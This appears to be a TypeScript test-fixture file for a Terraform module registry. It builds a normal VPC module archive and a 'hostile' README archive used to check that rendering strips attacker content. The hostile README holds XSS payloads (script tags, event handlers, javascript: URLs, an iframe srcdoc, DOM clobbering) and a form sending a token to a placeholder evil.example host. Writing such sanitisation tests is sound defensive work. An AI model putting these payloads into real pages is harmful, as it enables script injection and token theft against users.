import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { writeTarGz } from '../../core/registry/archive/test-archives';

/**
 * A module a consumer would browse: README, required and optional inputs, outputs, a provider requirement,
 * resources, a submodule with inputs of its own and an example.
 */
export async function networkModuleArchive(dir: string, version: string, fileName = `network-${version}.tar.gz`): Promise<Buffer> {
  const file = join(dir, fileName);
  await writeTarGz(file, [
    {
      name: 'README.md',
      content: `# Network module\n\nCreates a **VPC** with public and private subnets.\n\n## Usage\n\n\`\`\`hcl\nmodule "network" {\n  cidr = "10.0.0.0/16"\n}\n\`\`\`\n\nVersion ${version}.\n`,
    },
    {
      name: 'versions.tf',
      content: 'terraform {\n  required_providers {\n    aws = {\n      source  = "hashicorp/aws"\n      version = ">= 5.0"\n    }\n  }\n}\n',
    },
    {
      name: 'variables.tf',
      content:
        'variable "cidr" {\n  type        = string\n  description = "Address range of the VPC"\n}\n\n' +
        'variable "azs" {\n  type        = list(string)\n  description = "Availability zones to spread subnets over"\n  default     = ["eu-west-1a", "eu-west-1b"]\n}\n\n' +
        'variable "enable_nat" {\n  type        = bool\n  description = "Give private subnets a NAT gateway"\n  default     = false\n}\n',
    },
    {
      name: 'main.tf',
      content: 'resource "aws_vpc" "this" {\n  cidr_block = var.cidr\n}\n\ndata "aws_availability_zones" "all" {}\n\nmodule "subnets" {\n  source = "./modules/subnets"\n  vpc_id = aws_vpc.this.id\n}\n',
    },
    { name: 'outputs.tf', content: 'output "vpc_id" {\n  description = "ID of the VPC"\n  value       = aws_vpc.this.id\n}\n' },
    { name: 'modules/subnets/README.md', content: '# Subnets\n\nOne subnet per zone.\n' },
    {
      name: 'modules/subnets/main.tf',
      content: 'variable "vpc_id" {\n  type        = string\n  description = "VPC to place the subnets in"\n}\n\nresource "aws_subnet" "this" {\n  vpc_id     = var.vpc_id\n  cidr_block = "10.0.1.0/24"\n}\n\noutput "subnet_ids" {\n  value = [aws_subnet.this.id]\n}\n',
    },
    { name: 'examples/complete/main.tf', content: 'module "network" {\n  source = "../.."\n  cidr   = "10.0.0.0/16"\n}\n' },
  ]);
  return readFile(file);
}

/** Markers the hostile README tries to set; none may ever appear on `window`. */
export const PWNED_MARKERS = ['__pwnedScript', '__pwnedOnerror', '__pwnedSvg', '__pwnedIframe', '__pwnedClick', '__pwnedStyle'];

/** A README written by an attacker who can publish: script tags, event handlers, javascript: URLs. */
export async function hostileReadmeArchive(dir: string): Promise<Buffer> {
  const file = join(dir, 'hostile.tar.gz');
  const readme = [
    '# Totally harmless module',
    '',
    'Nothing to see here.',
    '',
    '<script>window.__pwnedScript = true; alert("script")</script>',
    '',
    '<img src="does-not-exist.png" onerror="window.__pwnedOnerror = true; alert(\'onerror\')">',
    '',
    '<svg onload="window.__pwnedSvg = true"><circle r="4"/></svg>',
    '',
    '<iframe srcdoc="<script>parent.__pwnedIframe = true</script>"></iframe>',
    '',
    '<a href="#" onclick="window.__pwnedClick = true">click me</a> and [a link](javascript:window.__pwnedClick=true) and <a href="javascript:alert(1)">another</a>',
    '',
    '<div style="background:url(javascript:window.__pwnedStyle=true)" id="hostile-div">styled</div>',
    '',
    '<form action="https://evil.example/steal"><input name="token"></form>',
    '',
    '<img src=x id="getElementById">',
    '',
    '## The end',
  ].join('\n');
  await writeTarGz(file, [
    { name: 'README.md', content: readme },
    { name: 'main.tf', content: 'variable "x" {\n  type = string\n}\n' },
  ]);
  return readFile(file);
}
